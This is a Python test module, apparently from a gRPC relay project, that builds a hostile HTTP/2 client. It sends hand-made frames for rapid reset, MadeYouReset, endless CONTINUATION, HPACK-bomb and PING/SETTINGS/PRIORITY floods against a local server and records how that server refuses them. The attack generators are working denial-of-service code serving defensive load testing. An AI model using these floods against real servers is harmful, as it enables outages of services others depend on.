"""A hostile HTTP/2 client: frames by hand, as fast as one connection takes them.

    told = flood(port, ATTACKS["rapid_reset"], seconds=3)
    assert told.goaway == ENHANCE_YOUR_CALM or told.closed_after_s is not None

An attack is a generator of bytes: what it has yielded is sent, whole and in order, before it is
asked for more; one that ends leaves the connection open. It knows nothing of what the server says;
`flood` reads that (or, to be worse, does not), and looks only for GOAWAY, RST_STREAM and the end of
the connection.

The attacks: rapid reset (CVE-2023-44487), the six primitives of MadeYouReset (CVE-2025-8671: the
server is made to reset streams itself, which counters of the client's resets miss), CONTINUATION
without end (CVE-2024-27316 and others), and floods of frames that cost their sender nothing: PING,
SETTINGS, PRIORITY, empty DATA, empty HEADERS for methods that are not there.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Final

import hpack
from rtrelay.v1 import GenerateRequest, Start

from tests.fakes.converse_client import prompt

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL: Final = 0x8
ENHANCE_YOUR_CALM: Final = 0xB

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x6, 0x7, 0x8, 0x9
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8

GENERATE: Final = "/rtrelay.v1.RelayService/Generate"
CONVERSE: Final = "/rtrelay.v1.RelayService/Converse"
BATCH: Final = 100
"""Streams or frames that are sent together."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One frame, whatever is in it."""
    return (
        struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload
    )


def head(path: str = GENERATE, *more: tuple[str, str], authority: str = "relay") -> bytes:
    """The header block of a call, without the dynamic table, so that it may be sent again."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in fields]))


def message(data: bytes) -> bytes:
    """Length-prefixed, as gRPC frames it."""
    return b"\0" + struct.pack(">I", len(data)) + data


def question(model: str = "fast") -> bytes:
    """A whole request of `Generate`."""
    request = GenerateRequest(start=Start(model=model, prompt=prompt("Hello")))
    return message(request.SerializeToString())


def opening(*settings: tuple[int, int]) -> bytes:
    """What a client says first."""
    payload = b"".join(struct.pack(">HI", *one) for one in settings)
    return PREFACE + frame(SETTINGS, 0, 0, payload)


def reset(stream_id: int, code: int = CANCEL) -> bytes:
    """RST_STREAM."""
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def _streams() -> Iterator[int]:
    yield from range(1, 1 << 31, 2)


@dataclass(frozen=True)
class Call:
    """What an attack asks for: with a key, or without.

    Attributes:
        block: header block.
        body: of a whole request, in gRPC's framing.
    """

    block: bytes
    body: bytes

    def whole(self, stream_id: int) -> bytes:
        """All of a request: the handler runs."""
        begun = frame(HEADERS, END_HEADERS, stream_id, self.block)
        return begun + frame(DATA, END_STREAM, stream_id, self.body)

    def begun(self, stream_id: int) -> bytes:
        """A request whose body is to come."""
        return frame(HEADERS, END_HEADERS, stream_id, self.block)


Attack = Callable[[Call], Iterator[bytes]]


def _each_stream(of_stream: Callable[[Call, int], bytes]) -> Attack:
    def attack(call: Call) -> Iterator[bytes]:
        batch: list[bytes] = []
        for stream_id in _streams():
            batch.append(of_stream(call, stream_id))
            if len(batch) == BATCH:
                yield b"".join(batch)
                batch.clear()

    return attack


def _endless(data: bytes) -> Attack:
    def attack(_: Call) -> Iterator[bytes]:
        while True:
            yield data * BATCH

    return attack


def _on_one_stream(data: Callable[[int], bytes]) -> Attack:
    def attack(call: Call) -> Iterator[bytes]:
        yield call.begun(1)
        while True:
            yield data(1) * BATCH

    return attack


def _continuation(_: Call) -> Iterator[bytes]:
    """Headers that never end, each of a name of its own; the block is never complete."""
    encoder = hpack.Encoder()
    yield frame(HEADERS, 0, 1, head())
    number = 0
    while True:
        fields = [hpack.NeverIndexedHeaderTuple(f"x-{number + i}", "v" * 100) for i in range(100)]
        number += 100
        yield frame(CONTINUATION, 0, 1, bytes(encoder.encode(fields)))


def _empty_continuation(_: Call) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, head())
    while True:
        yield frame(CONTINUATION, 0, 1) * BATCH


def _bombs(call: Call) -> Iterator[bytes]:
    """HPACK: one large header in the dynamic table, then blocks that name it a thousand times."""
    encoder = hpack.Encoder()
    large = bytes(encoder.encode([hpack.HeaderTuple("x-large", "v" * 3000)], huffman=False))
    for stream_id in _streams():
        more = large if stream_id == 1 else b"\xbe" * 4000  # index 62: the newest entry
        block = call.block + more
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block) + reset(stream_id)


def _settings(_: Call) -> Iterator[bytes]:
    """Each changes the window of every stream; each wants an acknowledgement."""
    number = 0
    while True:
        batch = []
        for _i in range(BATCH):
            number += 1
            batch.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 1000)))
        yield b"".join(batch)


_OVERFLOW = struct.pack(">I", 0x7FFF_FFFF)

ATTACKS: Final[dict[str, Attack]] = {
    "rapid_reset": _each_stream(lambda call, id_: call.whole(id_) + reset(id_)),
    "rapid_reset_of_heads": _each_stream(lambda call, id_: call.begun(id_) + reset(id_)),
    "made_window_0": _each_stream(
        lambda call, id_: call.whole(id_) + frame(WINDOW_UPDATE, 0, id_, bytes(4))
    ),
    "made_window_overflow": _each_stream(
        lambda call, id_: call.whole(id_) + frame(WINDOW_UPDATE, 0, id_, _OVERFLOW)
    ),
    "made_headers_after_end": _each_stream(
        lambda call, id_: call.whole(id_) + frame(HEADERS, END_HEADERS, id_, call.block)
    ),
    "made_data_after_end": _each_stream(
        lambda call, id_: call.whole(id_) + frame(DATA, 0, id_, call.body)
    ),
    "made_priority_length": _each_stream(
        lambda call, id_: call.whole(id_) + frame(PRIORITY, 0, id_, bytes(4))
    ),
    "made_priority_itself": _each_stream(
        lambda call, id_: call.whole(id_) + frame(PRIORITY, 0, id_, struct.pack(">IB", id_, 16))
    ),
    "continuation": _continuation,
    "continuation_empty": _empty_continuation,
    "hpack_bomb": _bombs,
    "ping": _endless(frame(PING, 0, 0, b"12345678")),
    "settings": _settings,
    "priority": _endless(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 16))),
    "window_update": _endless(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "empty_data": _on_one_stream(lambda id_: frame(DATA, 0, id_)),
    "unknown_frames": _endless(frame(0xEE, 0, 0)),
    "unknown_method": _each_stream(
        lambda call, id_: frame(HEADERS, END_HEADERS | END_STREAM, id_, head("/no.such/Method"))
    ),
}
"""By name; see the module."""

MADE_YOU_RESET: Final = tuple(name for name in ATTACKS if name.startswith("made_"))


@dataclass
class Told:
    """How a server took a flood."""

    sent_bytes: int = 0
    received_bytes: int = 0
    batches: int = 0
    connections: int = 0
    goaways: list[tuple[int, bytes]] = field(default_factory=list)
    """Code and text of each; a graceful one has 0."""
    resets: int = 0
    """RST_STREAM frames of the server."""
    closed_after_s: float | None = None
    """Since the first frame; None where the connection was still open at the end."""
    by_second: list[int] = field(default_factory=list)
    """Bytes that were taken, second by second."""

    @property
    def refusal(self) -> int | None:
        """The code of the last GOAWAY that is no graceful one."""
        codes = [code for code, _ in self.goaways if code]
        return codes[-1] if codes else None


class _Frames:
    """What a server says, cut into frames of which only the head matters."""

    def __init__(self, told: Told) -> None:
        self._told = told
        self._held = b""

    def feed(self, data: bytes) -> None:
        self._told.received_bytes += len(data)
        held = self._held + data
        at = 0
        while len(held) - at >= 9:
            length = int.from_bytes(held[at : at + 3])
            if len(held) - at < 9 + length:
                break
            kind = held[at + 3]
            if kind == RST_STREAM:
                self._told.resets += 1
            elif kind == GOAWAY:
                payload = held[at + 9 : at + 9 + length]
                self._told.goaways.append((int.from_bytes(payload[4:8]), payload[8:]))
            at += 9 + length
        self._held = held[at:]


def connect(port: int, tls: ssl.SSLContext | None = None, timeout_s: float = 5.0) -> socket.socket:
    """A connection to this machine; the caller closes it."""
    made = socket.create_connection(("127.0.0.1", port), timeout_s)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made if tls is None else tls.wrap_socket(made, server_hostname="127.0.0.1")


def flood(
    port: int,
    attack: Attack,
    seconds: float,
    *,
    call: Call | None = None,
    reads: bool = True,
    again: bool = False,
) -> Told:
    """Attack from one connection for so long, or until the server closes it. Blocks.

    Args:
        call: what is asked for; by default a whole question to `fast`, without a key.
        reads: take what the server says; one that does not makes it hold its answers.
        again: connect again whenever the server has closed; `closed_after_s` is of the first one.
    """
    told = Told()
    began_s = time.monotonic()
    asked = call or Call(head(), question())
    while True:
        _one(port, attack(asked), began_s, seconds, told, reads=reads)
        if not again or time.monotonic() - began_s >= seconds:
            return told


def _one(
    port: int, batches: Iterator[bytes], began_s: float, seconds: float, told: Told, *, reads: bool
) -> None:
    frames = _Frames(told)
    try:
        link = connect(port)
    except OSError:
        time.sleep(0.01)  # a refused attacker tries again; nothing tells when it is worth while
        return
    told.connections += 1
    first_s = time.monotonic()
    with link:
        link.setblocking(False)
        data = memoryview(opening() + frame(SETTINGS, ACK, 0))
        is_over = False
        try:
            while (now_s := time.monotonic()) - began_s < seconds:
                wanted = [link] if reads else []
                readable, writable, _ = select.select(wanted, [] if is_over else [link], [], 0.05)
                if readable:
                    heard = link.recv(1 << 18)
                    if not heard:
                        raise ConnectionResetError
                    frames.feed(heard)
                if writable:
                    count = link.send(data)
                    told.sent_bytes += count
                    second = int(now_s - began_s)
                    told.by_second += [0] * (second + 1 - len(told.by_second))
                    told.by_second[second] += count
                    data = data[count:]
                    if not data:
                        told.batches += 1
                        data = memoryview(next(batches, b""))
                        is_over = not data
        except OSError:
            if told.closed_after_s is None:
                told.closed_after_s = time.monotonic() - first_s
            _drain(link, frames)


def _drain(link: socket.socket, frames: _Frames) -> None:
    """What the server said before it closed."""
    try:
        while heard := link.recv(1 << 18):
            frames.feed(heard)
    except OSError:
        return
